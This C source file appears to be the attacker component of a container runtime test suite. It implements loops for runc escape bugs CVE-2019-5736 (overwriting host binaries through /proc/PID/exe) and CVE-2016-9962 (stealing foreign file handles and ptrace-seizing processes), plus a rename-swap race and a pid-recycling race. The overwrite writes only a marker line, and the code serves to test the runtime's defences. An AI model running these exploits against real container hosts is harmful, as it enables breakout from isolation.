/* Attacks that need luck, and so go on until they are killed. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* --- what is not ours ---------------------------------------------------------------------------- */

static bool is_own_mount(unsigned long long id)
{
	char line[4096];
	bool found = false;
	FILE *mounts = fopen("/proc/self/mountinfo", "re");
	while (mounts && !found && fgets(line, sizeof(line), mounts))
		found = strtoull(line, NULL, 10) == id;
	if (mounts)
		fclose(mounts);
	return found;
}

bool is_foreign(int fd)
{
	struct statx status;
	if (statx(fd, "", AT_EMPTY_PATH, STATX_TYPE | STATX_MNT_ID, &status) < 0)
		return false;
	/* A pipe or a terminal is what the container was given as its input and output. */
	return (S_ISREG(status.stx_mode) || S_ISDIR(status.stx_mode)) &&
	       !is_own_mount(status.stx_mnt_id);
}

/* Calls visit(path of the process's directory) for each process but this one. */
static void each_process(void (*visit)(const char *process))
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	while (proc && (entry = readdir(proc))) {
		char path[64];
		long pid = strtol(entry->d_name, NULL, 10); /* 0: no process */
		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%ld", pid);
		visit(path);
	}
	if (proc)
		closedir(proc);
}

/* --- exe-loop: CVE-2019-5736 --------------------------------------------------------------------- */

enum { MAX_HANDLES = 64 };

static const char *prey; /* NULL: foreign programs */
static int handles[MAX_HANDLES];
static struct stat known[MAX_HANDLES];
static int handle_count;

static bool is_prey(const char *path, int fd)
{
	char target[256];
	ssize_t size = readlink(path, target, sizeof(target) - 1);
	if (!prey || size < 0)
		return size >= 0 && is_foreign(fd);
	target[size] = '\0';
	return !strcmp(target, prey);
}

static void take_exe(const char *process)
{
	char path[96];
	struct stat status;
	snprintf(path, sizeof(path), "%s/exe", process);
	int fd = open(path, O_PATH | O_CLOEXEC);
	bool wanted = fd >= 0 && fstat(fd, &status) == 0 && handle_count < MAX_HANDLES &&
		      is_prey(path, fd);
	for (int i = 0; wanted && i < handle_count; i++)
		wanted = known[i].st_ino != status.st_ino || known[i].st_dev != status.st_dev;
	if (!wanted) {
		close(fd);
		return;
	}
	printf("handle %s\n", path);
	fflush(stdout);
	known[handle_count] = status;
	handles[handle_count++] = fd;
}

/* ETXTBSY as long as the program runs; so it is tried again when it has ended. */
static void overwrite(int handle)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, "#!overwritten\n", 14) == 14) {
		printf("overwrote %d\n", handle);
		fflush(stdout);
	}
	close(fd);
}

int attack_exe_loop(char **words)
{
	prey = *words;
	print_ready();
	for (;;) {
		each_process(take_exe);
		for (int i = 0; i < handle_count; i++)
			overwrite(handles[i]);
	}
}

/* --- steal-loop: CVE-2016-9962 ------------------------------------------------------------------- */

static bool take(const char *process, const char *what)
{
	char path[128];
	char target[256] = "";
	snprintf(path, sizeof(path), "%s/%s", process, what);
	int fd = open(path, O_PATH | O_CLOEXEC);
	bool foreign = fd >= 0 && is_foreign(fd);
	if (foreign) {
		ssize_t size = readlink(path, target, sizeof(target) - 1);
		printf("stole %s: %.*s\n", path, size < 0 ? 0 : (int)size, target);
		fflush(stdout);
	}
	close(fd);
	return foreign;
}

static void seize(const char *process)
{
	pid_t pid = (pid_t)strtol(process + strlen("/proc/"), NULL, 10);
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	if (take(process, "exe")) {
		printf("seized %d\n", (int)pid);
		fflush(stdout);
	}
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void steal(const char *process)
{
	char path[96];
	snprintf(path, sizeof(path), "%s/fd", process);
	take(process, "root");
	take(process, "cwd");
	DIR *fds = opendir(path);
	struct dirent *entry;
	while (fds && (entry = readdir(fds))) {
		snprintf(path, sizeof(path), "fd/%.16s", entry->d_name);
		if (*entry->d_name != '.')
			take(process, path);
	}
	if (fds)
		closedir(fds);
	seize(process);
}

int attack_steal_loop(char **words)
{
	(void)words;
	print_ready();
	for (;;)
		each_process(steal);
}

/* --- swap-loop: what was checked is no longer what is used --------------------------------------- */

int attack_swap_loop(char **words)
{
	if (renameat2(AT_FDCWD, words[0], AT_FDCWD, words[1], RENAME_EXCHANGE) < 0)
		return print_result("swap", -1);
	print_ready();
	for (;;)
		renameat2(AT_FDCWD, words[0], AT_FDCWD, words[1], RENAME_EXCHANGE);
}

/* --- pid: another process gets the number ------------------------------------------------------- */

int attack_pid(char **words)
{
	pid_t wanted = (pid_t)parse_word(words[0]);
	char last[16];
	int size = snprintf(last, sizeof(last), "%d", (int)wanted - 1);
	for (int tries = 0; tries < 1000; tries++) {
		int fd = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
		if (fd < 0 || write(fd, last, (size_t)size) < 0)
			return print_result("pid", -1);
		close(fd);
		pid_t child = fork();
		if (child == 0) {
			if (getpid() != wanted)
				_exit(0);
			print_ready();
			for (;;)
				pause();
		}
		if (child == wanted)
			waitpid(child, NULL, 0);
		if (child == wanted)
			return 0;
		waitpid(child, NULL, 0);
	}
	errno = EAGAIN;
	return print_result("pid", -1);
}
